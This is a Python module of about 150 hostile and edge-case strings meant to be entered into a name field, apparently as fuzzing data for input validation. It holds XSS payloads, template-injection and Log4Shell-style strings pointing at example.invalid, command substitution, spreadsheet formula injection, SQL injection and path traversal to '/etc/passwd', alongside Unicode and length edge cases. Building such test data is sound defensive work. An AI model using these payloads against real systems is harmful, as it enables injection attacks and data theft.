"""A hundred and fifty texts that somebody may write where a name is asked for, by malice or by accident."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=x>",
    "<link rel=stylesheet href=//example.invalid/x.css>", "<meta http-equiv=refresh content='0;url=//example.invalid'>",
    "<base href=//example.invalid/>", "<form action=//example.invalid><input></form>", "<style>*{display:none}</style>",
    "<style>@import '//example.invalid/x.css'</style>", "<svg><use href=//example.invalid/x.svg#a></svg>", "<math><mtext><script>alert(1)</script>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>", "<svg><animate onbegin=alert(1)>", "<svg><a xlink:href=javascript:alert(1)>x",
    "<img src='//example.invalid/pixel.gif'>", "<table><tr><td>", "</table></section></main>", "<!-- ", "-->", "<![CDATA[ x ]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE html>", "<plaintext>", "<noscript><p title='</noscript><script>alert(1)</script>'>", "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//example.invalid/x.js></SCRIPT>", "<img/src/onerror=alert(1)>", "<div style=position:fixed;inset:0>",
    "<p hidden>", "<h1>", "<li>", "<br>", "<a name=content>", "<marquee>", "<button onclick=alert(1)>", "<select><option>", "<dialog open>",
)  # fmt: skip
ESCAPES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;&amp;&amp;",
    "&nbsp;", "&bogus;", "&", "<", ">", '"', "'", "`", '"" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "//example.invalid", "https://example.invalid/?q=<b>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{{}}", "{}", "{0}", "{name}", "{bundle.__class__}", "{name!r:>300}", "{",
    "}", "}}{{", "${7*7}", "${jndi:ldap://example.invalid/x}", "$(touch x)", "`touch x`", "#{7*7}", "<%= 7*7 %>", "%s%s%n", "%(name)s", "{measure}", "{number:n}", "@{x}", "[[x]]",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"//example.invalid\")", "+1+1", "-1-1", "@SUM(1)", "; DROP TABLE sites; --", "' OR '1'='1", "..\\..\\..\\x", "../../../../x", "NULL", "nan", "inf",
)  # fmt: skip
SCRIPTS = (
    "\u202eTekst som snus\u202c", "\u2066isolert\u2069", "\u200f\u200fמרכז", "مركز الرعاية", "\u202dxyz", "לשכה 12 <b>", "中心医院", "病院ケアセンター", "돌봄 센터",
    "ศูนย์ดูแล", "सेवा केंद्र", "Центр ухода", "Κέντρο φροντίδας", "Søndre Ål ÆØÅ æøå", "Guovdageainnu suohkan", "Kárášjohka č đ ŋ š ŧ ž", "e\u0301e\u0301 a\u030a",
    "Z\u0351\u0352\u0353a\u0310\u0311l\u0312\u0313g\u0314o\u0315", "\u200bnull\u200bbredde", "\ufeffbom", "soft\u00adhy\u00adphen", "\u00a0", "\u3000", "👩‍⚕️👨🏽‍⚕️", "🏳️‍🌈🇳🇴🧑‍🤝‍🧑", "😀" * 60,
    "ﷺ", "𝕳𝖊𝖑𝖘𝖊", "ǅ Ǆ ß ẞ", "\u2028linje\u2029avsnitt", "1\u20442", "−1,5 %",
)  # fmt: skip
LONG = (
    "Æ" * 300, "Lang " * 60, "Sykehjemsavdelingskvalitetsforbedringskoordinator" * 6, "a-" * 150, "😀" * 150, "中" * 300, "<b>" * 100, "&amp;" * 60,
    "{" * 300, "\u0301" * 300, "W" * 300, "i" * 300, "https://example.invalid/" + "x" * 276,
)  # fmt: skip
HOSTILE = (*MARKUP, *ESCAPES, *TEMPLATES, *SCRIPTS, *LONG)
